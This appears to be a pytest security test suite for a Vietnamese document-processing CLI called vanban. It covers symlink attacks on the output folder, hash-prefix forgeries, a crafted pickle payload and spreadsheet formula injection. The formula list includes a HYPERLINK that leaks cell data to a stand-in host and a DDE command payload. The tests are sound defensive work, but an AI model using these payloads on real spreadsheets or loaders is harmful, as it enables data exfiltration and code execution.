"""Hostile output folders, spreadsheets and identities (issue 14, classes 1, 2, 4 and 8).

Each test builds the hostile situation, runs the real `vanban run`, and checks
what the user would: no file outside what vanban wrote is touched, the seed's 37
task rows are in the tables, errors are one line with exit status 2.
"""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import SEED, read_csv, run_cli

SEED_TASKS = 37


def run(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    e = dict(os.environ, VANBAN_CACHE_KEY="tests", **(env or {}))
    return subprocess.run([sys.executable, "-m", "vanban.cli", "run", *args, "--no-validate", "--jobs", "1"],
                          capture_output=True, text=True, env=e, timeout=300)


def seed_tasks(out: Path) -> int:
    """The task table rows in tasks.csv (the seed's prose tasks follow them as source_kind prose)."""
    return sum(r["source_kind"] == "table" for r in read_csv(out / "tasks.csv"))


def one_error_line(proc: subprocess.CompletedProcess) -> str:
    lines = [ln for ln in proc.stderr.splitlines() if ln.strip()]
    assert "Traceback" not in proc.stderr
    errors = [ln for ln in lines if ln.startswith("vanban: error:")]
    assert len(errors) == 1, proc.stderr
    return errors[0]


# --------------------------------------------------------------------------- 1. the output folder


def test_a_database_symlink_in_out_is_refused_and_its_target_untouched(tmp_path):
    victim = tmp_path / "precious.sqlite"
    con = sqlite3.connect(victim)
    con.execute("CREATE TABLE documents (who TEXT)")
    con.execute("INSERT INTO documents VALUES ('the user''s own data')")
    con.commit()
    con.close()
    before = victim.read_bytes()
    out = tmp_path / "out"
    assert run(str(SEED), "-o", str(out)).returncode == 0  # a real output folder of vanban
    (out / "vanban.sqlite").unlink()
    (out / "vanban.sqlite").symlink_to(victim)
    proc = run(str(SEED), "-o", str(out))
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert str(out / "vanban.sqlite") in line and "symbolic link" in line
    assert victim.read_bytes() == before
    con = sqlite3.connect(victim)
    assert con.execute("SELECT who FROM documents").fetchall() == [("the user's own data",)]
    con.close()


@pytest.mark.parametrize("link", ["docs", "validation", ".cache", "vanban.sqlite-wal", "documents.csv"])
def test_a_folder_or_file_symlink_in_out_is_refused_and_nothing_there_deleted(tmp_path, link):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for name in ("a.json", "b.json", "data_docs", "results.json"):
        (elsewhere / name).write_text("{}", encoding="utf-8") if "." in name else (elsewhere / name).mkdir()
    listing = sorted(p.name for p in elsewhere.iterdir())
    out = tmp_path / "out"
    assert run(str(SEED), "-o", str(out)).returncode == 0
    target = out / link
    if target.is_dir():
        shutil.rmtree(target)
    elif target.exists():
        target.unlink()
    target.symlink_to(elsewhere)
    proc = subprocess.run([sys.executable, "-m", "vanban.cli", "run", str(SEED), "-o", str(out)],  # validation on
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 2
    assert str(target) in one_error_line(proc)
    assert sorted(p.name for p in elsewhere.iterdir()) == listing


def test_the_users_own_files_in_a_vanban_folder_are_never_deleted(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(SEED, inbox / "a.txt")
    shutil.copy(SEED, inbox / "b.txt")
    (inbox / "b.txt").write_text(SEED.read_text(encoding="utf-8") + "\nbản khác\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run(str(inbox), "-o", str(out)).returncode == 0
    mine = out / "docs" / "ghi-chu-cua-toi.json"
    mine.write_text('{"note": "mine"}', encoding="utf-8")
    (out / "notes.txt").write_text("mine too", encoding="utf-8")
    (out / ".notes.abc.tmp").write_text("a temporary of mine", encoding="utf-8")
    (inbox / "b.txt").unlink()  # b's document leaves the run: its JSON, which vanban wrote, goes
    docs_before = {p.name for p in (out / "docs").glob("*.json")}
    proc = run(str(inbox), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    docs_after = {p.name for p in (out / "docs").glob("*.json")}
    assert mine.read_text(encoding="utf-8") == '{"note": "mine"}'
    assert (out / "notes.txt").exists() and (out / ".notes.abc.tmp").exists()
    assert docs_after == {mine.name, *(f"{r['doc_id']}.json" for r in read_csv(out / "documents.csv"))}
    assert len(docs_before - docs_after) == 1
    assert seed_tasks(out) == SEED_TASKS


def test_a_non_empty_folder_that_is_not_vanbans_is_refused_unless_forced(tmp_path):
    project = tmp_path / "project"
    (project / "docs").mkdir(parents=True)
    own = {project / "docs" / "spec.json": '{"spec": 1}', project / "README.md": "# my project\n"}
    for path, text in own.items():
        path.write_text(text, encoding="utf-8")
    proc = run(str(SEED), "-o", str(project))
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert str(project) in line and "--force-output" in line
    assert sorted(p.relative_to(project).as_posix() for p in project.rglob("*")) == ["README.md", "docs", "docs/spec.json"]
    proc = run(str(SEED), "-o", str(project), "--force-output")
    assert proc.returncode == 0, proc.stderr
    assert seed_tasks(project) == SEED_TASKS
    other = tmp_path / "other.txt"
    other.write_text(SEED.read_text(encoding="utf-8") + "\nmột văn bản khác\n", encoding="utf-8")
    proc = run(str(other), "-o", str(project))  # now a vanban folder: no --force-output needed
    assert proc.returncode == 0, proc.stderr
    assert all(path.read_text(encoding="utf-8") == text for path, text in own.items())


def test_a_folder_written_before_the_manifest_is_still_accepted_as_vanbans(tmp_path):
    out = tmp_path / "out"
    assert run(str(SEED), "-o", str(out)).returncode == 0
    old_doc = next((out / "docs").glob("*.json"))
    # as a vanban without manifests left it, with a document of an older doc_id form
    shutil.rmtree(out / ".vanban")
    stale = out / "docs" / "old_0123abcd.json"
    shutil.copy(old_doc, stale)
    shutil.copy(out / ".cache" / old_doc.name, out / ".cache" / stale.name)
    proc = run(str(SEED), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    assert not stale.exists()  # vanban's own (its cache entry says so), not in the run: pruned
    assert json.loads((out / ".vanban" / "manifest.json").read_text(encoding="utf-8"))["vanban"] == "output folder"
    assert seed_tasks(out) == SEED_TASKS


def test_a_crafted_cache_pickle_is_never_loaded(tmp_path):
    out = tmp_path / "out"
    assert run(str(SEED), "-o", str(out)).returncode == 0
    marker = tmp_path / "pwned"
    pickles = list((out / ".cache").glob("*.pickle"))
    assert len(pickles) == 1

    class Evil:
        def __reduce__(self):
            return (Path.touch, (marker,))

    for magic in (b"", b"VBP1" + bytes(32)):  # a plain pickle, and one with a forged MAC
        pickles[0].write_bytes(magic + pickle.dumps(Evil()))
        proc = run(str(SEED), "-o", str(out))
        assert proc.returncode == 0, proc.stderr
        assert not marker.exists()
        assert "1 new, 0 unchanged" in proc.stderr  # processed again instead
        assert seed_tasks(out) == SEED_TASKS


# --------------------------------------------------------------------------- 8. a bad -o


def test_out_that_is_a_file_is_one_line_and_exit_2(tmp_path):
    f = tmp_path / "out.txt"
    f.write_text("not a folder", encoding="utf-8")
    proc = run(str(SEED), "-o", str(f))
    assert proc.returncode == 2
    line = one_error_line(proc)
    assert str(f) in line and "not a folder" in line
    assert f.read_text(encoding="utf-8") == "not a folder"


def test_out_inside_a_file_is_one_line_and_exit_2(tmp_path):
    f = tmp_path / "file"
    f.write_text("x", encoding="utf-8")
    proc = run(str(SEED), "-o", str(f / "out"))
    assert proc.returncode == 2
    assert "cannot create the output folder" in one_error_line(proc)


@contextmanager
def read_only_folder(path: Path):
    """A folder no one can write in: mode 0555, and for root (whom modes do not stop) the immutable
    attribute, or a read-only tmpfs mounted on it; skipped when neither can be had."""
    path.mkdir(mode=0o555)
    os.chmod(path, 0o555)
    undo = None
    if os.geteuid() == 0:
        for make, unmake in ((["chattr", "+i"], ["chattr", "-i"]),
                             (["mount", "-t", "tmpfs", "-o", "ro,size=64k", "tmpfs"], ["umount"])):
            if shutil.which(make[0]) and subprocess.run([*make, str(path)], capture_output=True).returncode == 0:
                undo = [*unmake, str(path)]
                break
        else:
            pytest.skip("as root, no way to make a read-only folder here")
    try:
        yield path
    finally:
        if undo:
            subprocess.run(undo, capture_output=True)
        os.chmod(path, 0o755)


def test_a_read_only_out_is_one_line_and_exit_2(tmp_path):
    with read_only_folder(tmp_path / "ro") as ro:
        proc = run(str(SEED), "-o", str(ro))
        assert proc.returncode == 2, proc.stderr
        line = one_error_line(proc)
        assert str(ro) in line and "cannot write" in line
        assert list(ro.iterdir()) == []
        proc = run(str(SEED), "-o", str(ro / "sub"))
        assert proc.returncode == 2 and "cannot create the output folder" in one_error_line(proc)


# --------------------------------------------------------------------------- 4. identity, and 8. names that fold together


def _forge(prefix_hex: str) -> bytes:
    """Bytes whose SHA-256 starts with `prefix_hex` (4 hex digits: about 65,000 tries)."""
    for i in range(2_000_000):
        data = b"KE HOACH GIA MAO\n" + str(i).encode()
        if hashlib.sha256(data).hexdigest().startswith(prefix_hex):
            return data
    raise AssertionError("no forgery found")


def _forged_inbox(tmp_path: Path, seed_sha: str) -> tuple[Path, bytes]:
    """The seed, and before it (a folder that sorts first) a file of the same name whose digest
    begins as the seed's: the attack of issue 14 on a 32-bit id, scaled down to 16 bits."""
    inbox = tmp_path / "inbox"
    (inbox / "0").mkdir(parents=True)
    shutil.copy(SEED, inbox / SEED.name)
    forged = _forge(seed_sha[:4])
    (inbox / "0" / SEED.name).write_bytes(forged)
    return inbox, forged


def test_ids_carry_128_bits_and_a_prefix_forgery_does_not_touch_the_seed(tmp_path):
    from vanban.extract.base import ID_HEX, doc_id_for, sha256_of

    assert ID_HEX >= 32
    seed_sha = sha256_of(SEED)
    assert doc_id_for(SEED, seed_sha).endswith("_" + seed_sha[:ID_HEX])
    inbox, forged = _forged_inbox(tmp_path, seed_sha)
    out = tmp_path / "out"
    proc = run(str(inbox), "-o", str(out))
    assert proc.returncode == 0, proc.stderr
    docs = read_csv(out / "documents.csv")
    assert {d["sha256"] for d in docs} == {seed_sha, hashlib.sha256(forged).hexdigest()}
    assert [d["status"] for d in docs] == ["ok", "ok"] and len({d["doc_id"] for d in docs}) == 2
    seed_id = next(d["doc_id"] for d in docs if d["sha256"] == seed_sha)
    assert sum(r["doc_id"] == seed_id and r["source_kind"] == "table" for r in read_csv(out / "tasks.csv")) == SEED_TASKS


def test_two_inputs_whose_ids_collide_are_both_processed(tmp_path, monkeypatch):
    """Were the id ever short enough to collide, both inputs are still documents of their own:
    only equal full digests make two inputs one document."""
    from vanban.batch import Settings, run as batch_run
    from vanban.extract import base
    from vanban.extract.base import sha256_of

    monkeypatch.setattr(base, "ID_HEX", 4)  # 16 bits: the forgery below collides
    seed_sha = sha256_of(SEED)
    inbox, forged = _forged_inbox(tmp_path, seed_sha)
    assert base.doc_id_for(inbox / "0" / SEED.name, hashlib.sha256(forged).hexdigest()) == base.doc_id_for(SEED, seed_sha)
    out = tmp_path / "out"
    summary = batch_run([str(inbox)], Settings(out=out, jobs=1, cache_key="tests"), quiet=True)
    docs = read_csv(out / "documents.csv")
    assert summary.failed == 0 and summary.duplicates == 0
    assert [d["status"] for d in docs] == ["ok", "ok"] and len({d["doc_id"] for d in docs}) == 2
    seed_row = next(d for d in docs if d["sha256"] == seed_sha)
    assert seed_row["source"] == str(inbox / SEED.name)
    assert sum(r["doc_id"] == seed_row["doc_id"] and r["source_kind"] == "table" for r in read_csv(out / "tasks.csv")) == SEED_TASKS
    assert json.loads((out / "docs" / f"{seed_row['doc_id']}.json").read_text(encoding="utf-8"))["sha256"] == seed_sha


def test_the_same_name_and_bytes_twice_are_both_listed(tmp_path):
    inbox = tmp_path / "inbox"
    for sub in ("a", "b"):
        (inbox / sub).mkdir(parents=True)
        shutil.copy(SEED, inbox / sub / "Quyết định.txt")
    shutil.copy(SEED, inbox / "Quyet dinh.txt")  # folds to the same slug too
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "vanban.cli", "run", str(inbox), "-o", str(out)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    docs = read_csv(out / "documents.csv")
    assert sorted(Path(d["source"]).relative_to(inbox).as_posix() for d in docs) == ["Quyet dinh.txt", "a/Quyết định.txt", "b/Quyết định.txt"]
    assert len({d["doc_id"] for d in docs}) == 3
    first = [d for d in docs if d["status"] == "ok"]
    dups = [d for d in docs if d["status"] == "duplicate"]
    assert len(first) == 1 and len(dups) == 2 and all(d["duplicate_of"] == first[0]["doc_id"] for d in dups)
    assert seed_tasks(out) == SEED_TASKS  # counted once
    assert sum(ln.startswith("vanban: duplicate ") for ln in proc.stderr.splitlines()) == 2
    assert "expectations met" in proc.stderr  # the validation suite knows the status


def test_names_that_fold_to_one_slug_with_different_bytes_are_two_documents(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(SEED, inbox / "Quyết định 1.txt")
    (inbox / "Quyet dinh 1.txt").write_text(SEED.read_text(encoding="utf-8") + "\nbản sửa\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run(str(inbox), "-o", str(out)).returncode == 0
    docs = read_csv(out / "documents.csv")
    assert [d["status"] for d in docs] == ["ok", "ok"] and len({d["doc_id"] for d in docs}) == 2
    assert seed_tasks(out) == 2 * SEED_TASKS


# --------------------------------------------------------------------------- 2. formula injection


FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/x?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://127.0.0.1:9/")',
    "=1+1",
    "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/?\",A2),\"//a\")",
    "#N/A",
]


def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(tmp_path):
    from openpyxl import load_workbook

    text = SEED.read_text(encoding="utf-8").splitlines()
    # the formulas become a document's subject and a task's cells
    head = "\n".join(text[:10])
    evil = tmp_path / "evil.txt"
    table = "\n".join(f"{i}\t{f}\t{f}\tSở Nội vụ\t{f}\tQuý IV/2021" for i, f in enumerate(FORMULAS, 1))
    evil.write_text(head + "\nV/v " + FORMULAS[0] + "\n" + "\n".join(text[10:]) + "\n"
                    + "TT\tNội dung, nhiệm vụ\tSản phẩm\tCơ quan chủ trì\tCơ quan phối hợp\tThời gian hoàn thành\n" + table + "\n",
                    encoding="utf-8")
    out = tmp_path / "out"
    proc = run(str(evil), str(SEED), "-o", str(out), "--formats", "xlsx")
    assert proc.returncode == 0, proc.stderr
    wb = load_workbook(out / "vanban.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in cells if c.value.startswith(("=", "#"))]
    assert len(risky) >= 10  # the test put them there
    assert {c.data_type for c in risky} == {"s"}
    with zipfile.ZipFile(out / "vanban.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    # the CSV keeps the text as it is (raw data for systems)
    assert any(r["task"] == "=cmd|' /C calc'!A0" for r in read_csv(out / "tasks.csv"))
    assert sum(r["doc_id"] == read_csv(out / "documents.csv")[1]["doc_id"] and r["source_kind"] == "table" for r in read_csv(out / "tasks.csv")) == SEED_TASKS


def test_review_decisions_made_under_the_short_ids_carry_to_the_new_ones(tmp_path, monkeypatch):
    """Legal staff's decisions made with the 32-bit doc_id of earlier versions are not lost when
    the id grows to 128 bits: the same document (same bytes) keeps them, finding by finding."""
    from vanban.batch import Settings, run as batch_run
    from vanban.extract import base
    from vanban.review.store import RunStore

    out = tmp_path / "out"
    with monkeypatch.context() as m:
        m.setattr(base, "ID_HEX", 8)  # the id of vanban before issue 14
        batch_run([str(SEED)], Settings(out=out, jobs=1, cache_key="short-ids"), quiet=True)
    store = RunStore(out)
    old_id = store.documents()[0].doc_id
    assert len(old_id.rsplit("_", 1)[1]) == 8
    chosen = store.findings(old_id)[:3]
    for f, state in zip(chosen, ("confirmed", "dismissed", "confirmed")):
        store.decide(old_id, f.fingerprint, state, "ghi chú", "Chuyên viên A")
    batch_run([str(SEED)], Settings(out=out, jobs=1, cache_key="long-ids"), quiet=True)
    store = RunStore(out)
    new_id = store.documents()[0].doc_id
    assert new_id != old_id and new_id.startswith(old_id)
    states = {(f.rule, f.message): f.state for f in store.findings(new_id)}
    assert [states[(f.rule, f.message)] for f in chosen] == ["confirmed", "dismissed", "confirmed"]
    assert sum(s != "open" for s in states.values()) == 3
